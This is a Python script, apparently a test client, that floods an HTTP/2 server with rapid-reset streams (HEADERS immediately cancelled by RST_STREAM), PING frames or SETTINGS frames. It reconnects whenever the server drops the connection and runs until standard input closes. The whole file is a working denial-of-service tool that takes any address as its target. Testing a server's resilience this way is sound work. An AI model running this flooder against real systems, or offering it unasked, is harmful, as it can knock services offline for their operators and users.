"""A client that floods one port with HTTP/2 frames, in a process of its own: what it computes must cost the others nothing.

usage: flooder.py KIND ADDRESS PATH [HEADER=VALUE...]      KIND: rapid-reset, pings, settings

Bytes are made beforehand and sent again and again, as fast as they go, and answers are read; when the server closes the
connection, the next one follows at once. It comes from an address of its own, as another client does. Ends when standard input ends, with the number of its connections and bytes as a line.
"""

import select
import socket
import sys
import threading

import hpack
import http2

STREAMS_PER_CONNECTION = 20_000
FRAMES_PER_BURST = 2_000
SOURCE = ("127.0.0.2", 0)
CANCEL = (8).to_bytes(4, "big")


def rapid_reset(path: str, extra: dict[str, str]) -> list[bytes]:
    """Streams that are opened and given up in the same breath."""
    encoder = hpack.Encoder()
    pairs = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "test"), *extra.items()]
    first, later = encoder.encode(pairs), encoder.encode(pairs)
    bursts, burst = [], b""
    for index in range(STREAMS_PER_CONNECTION):
        stream = 2 * index + 1
        burst += http2.frame(http2.HEADERS, http2.END_HEADERS, stream, later if index else first)
        burst += http2.frame(http2.RST_STREAM, 0, stream, CANCEL)
        if index % 500 == 499:
            bursts.append(burst)
            burst = b""
    return bursts


def bursts_of(kind: str, path: str, extra: dict[str, str]) -> list[bytes]:
    if kind == "rapid-reset":
        return rapid_reset(path, extra)
    if kind == "pings":
        return [http2.frame(http2.PING, 0, 0, b"12345678") * FRAMES_PER_BURST] * 1_000
    if kind == "settings":
        return [http2.frame(http2.SETTINGS, 0, 0) * FRAMES_PER_BURST] * 1_000
    raise ValueError(f"unknown flood {kind!r}: rapid-reset, pings or settings")


def discard(connection: socket.socket) -> None:
    """Reads to the end without looking."""
    waste = bytearray(1 << 20)
    try:
        while connection.recv_into(waste, 0, socket.MSG_TRUNC):
            pass
    except OSError:
        pass
    finally:
        connection.close()


def is_over() -> bool:
    return bool(select.select([sys.stdin], [], [], 0)[0])


def main(kind: str, address: str, path: str, *headers: str) -> None:
    bursts = bursts_of(kind, path, dict(header.split("=", 1) for header in headers))
    host, port = address.rsplit(":", 1)
    connections = sent = 0
    print("ready", flush=True)
    while not is_over():
        try:
            with socket.create_connection((host, int(port)), timeout=1, source_address=SOURCE) as connection:
                connections += 1
                threading.Thread(target=discard, args=(connection.dup(),), daemon=True).start()
                connection.sendall(http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0))
                for burst in bursts:
                    connection.sendall(burst)
                    sent += len(burst)
                    if is_over():
                        break
        except OSError:
            pass  # the server had enough of this connection
    print(f"{connections} connections, {sent / 1e6:.1f} MB", flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
